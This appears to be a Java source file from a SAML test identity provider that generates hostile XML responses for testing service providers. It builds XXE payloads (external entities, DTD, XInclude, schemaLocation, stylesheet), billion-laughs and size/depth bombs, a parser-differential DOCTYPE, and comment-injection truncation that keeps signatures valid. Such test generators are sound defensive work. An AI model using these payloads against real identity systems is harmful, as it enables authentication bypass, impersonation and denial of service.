package se.byggsten.testidp.attack.internal;

import java.util.List;
import se.byggsten.testidp.protocol.internal.AnswerDraft;
import se.byggsten.testidp.protocol.internal.AnswerWriter;
import se.byggsten.testidp.protocol.internal.Names;
import se.byggsten.testidp.protocol.internal.XmlSignatures;

/** Messages that attack the parser: entities, addresses, sizes, and values that it cuts short. */
final class HostileXml {
  private static final int LARGE = 3_000_000;
  private static final int DEEP = 60_000;

  /** What stands after the place where a value can be cut. */
  static final String REST = "0";

  /** Letters alone, so that they are not taken for what differs from one page to the next. */
  static final String CUT_NAME = "anna.ek";

  static final String NAME_REST = "strand";

  private HostileXml() {}

  static String dtd(Scene scene) {
    return "<!DOCTYPE saml2p:Response>" + scene.right();
  }

  static String idByDtd(Scene scene) {
    return "<!DOCTYPE saml2p:Response [<!ATTLIST saml2p:Response ID ID #IMPLIED>"
        + "<!ATTLIST saml2:Issuer Format ID #IMPLIED>]>"
        + Wrapping.response(scene, 8);
  }

  static String entity(Scene scene) {
    return "<!DOCTYPE saml2p:Response [<!ENTITY x SYSTEM \""
        + SignatureForgery.place(scene, "entity")
        + "\">]>"
        + scene.right().replaceFirst("</saml2:Issuer>", "&x;</saml2:Issuer>");
  }

  static String parameterEntity(Scene scene) {
    return "<!DOCTYPE saml2p:Response [<!ENTITY % p SYSTEM \""
        + SignatureForgery.place(scene, "parameter-entity")
        + "\"> %p;]>"
        + scene.right();
  }

  static String externalDtd(Scene scene) {
    return "<!DOCTYPE saml2p:Response SYSTEM \""
        + SignatureForgery.place(scene, "dtd")
        + "\">"
        + scene.right();
  }

  static String billionLaughs(Scene scene) {
    StringBuilder entities = new StringBuilder("<!ENTITY l0 \"ha\">");
    for (int i = 1; i < 10; i++) {
      String previous = "&l" + (i - 1) + ";";
      entities.append("<!ENTITY l").append(i).append(" \"");
      entities.append(previous.repeat(10)).append("\">");
    }
    return "<!DOCTYPE saml2p:Response ["
        + entities
        + "]>"
        + scene.right().replaceFirst("</saml2:Issuer>", "&l9;</saml2:Issuer>");
  }

  /** One reader ends the document type at its first end, another after the literal. */
  static String differential(Scene scene) {
    String forged = scene.encrypted(scene.victim());
    return "<!DOCTYPE saml2p:Response [<!NOTATION n SYSTEM ']>"
        + forged
        + "<!--'>]>"
        + scene.right()
        + "<!-- -->";
  }

  static String xinclude(Scene scene) {
    String unsigned = scene.encrypted(scene.victim());
    String include =
        "<saml2p:Extensions><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
            + SignatureForgery.place(scene, "include")
            + "\" parse=\"text\"/></saml2p:Extensions>";
    return AnswerWriter.signed(
        unsigned.replaceFirst("</saml2:Issuer>", "</saml2:Issuer>" + include),
        XmlSignatures.Maker.of(scene.stranger()));
  }

  /** A right answer that names where its schema lies; nobody has to ask there. */
  static String schemaLocation(Scene scene) {
    String unsigned = scene.encrypted(scene.draft());
    String place =
        " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\""
            + Names.SAMLP
            + " "
            + SignatureForgery.place(scene, "schema")
            + "\" Version=";
    return scene.signed(unsigned.replaceFirst(" Version=", place));
  }

  static String styleSheet(Scene scene) {
    return "<?xml-stylesheet type=\"text/xsl\" href=\""
        + SignatureForgery.place(scene, "stylesheet")
        + "\"?>"
        + scene.right();
  }

  /** The identity provider vouches for the value with its rest; somebody reads it without. */
  static String cutNumber(Scene scene, String cut) {
    AnswerDraft draft = scene.draft();
    String name =
        draft.has(Names.NUMBER)
            ? Names.NUMBER
            : draft.has(Names.AFFILIATION) ? Names.AFFILIATION : "urn:oid:1.2.752.201.3.4";
    String right = scene.attributes().getOrDefault(name, "");
    draft.attribute(name, right + REST);
    return split(scene, draft, ">" + right + REST + "<", ">" + right + cut + "<");
  }

  /** The identity provider vouches for the whole name; somebody reads it to the comment. */
  static String cutName(Scene scene) {
    String whole = CUT_NAME + NAME_REST;
    return split(scene, scene.draft().named(whole), whole, CUT_NAME + "<!-- -->" + NAME_REST);
  }

  /** The assertion is signed too, since that signature holds with and without a comment. */
  private static String split(Scene scene, AnswerDraft draft, String whole, String cut) {
    String clear = AnswerWriter.unencrypted(draft).replace(whole, cut);
    String signed = AnswerWriter.assertionSigned(clear, scene.maker());
    return scene.signed(AnswerWriter.encrypted(signed, scene.service()));
  }

  /** Small when it is compressed: it holds no encrypted part. */
  static String bomb(Scene scene) {
    return scene
        .victim()
        .response(
            List.of(Names.SUCCESS),
            "<saml2p:Extensions><x xmlns=\"urn:x\">"
                + "A".repeat(LARGE)
                + "</x></saml2p:Extensions>");
  }

  static String large(Scene scene) {
    return withExtensions(scene, "<x xmlns=\"urn:x\">" + "A".repeat(LARGE) + "</x>");
  }

  static String deep(Scene scene) {
    return withExtensions(
        scene, "<x xmlns=\"urn:x\">" + "<y>".repeat(DEEP) + "</y>".repeat(DEEP) + "</x>");
  }

  private static String withExtensions(Scene scene, String content) {
    return scene
        .encrypted(scene.victim())
        .replaceFirst(
            "</saml2:Issuer>",
            "</saml2:Issuer><saml2p:Extensions>" + content + "</saml2p:Extensions>");
  }
}
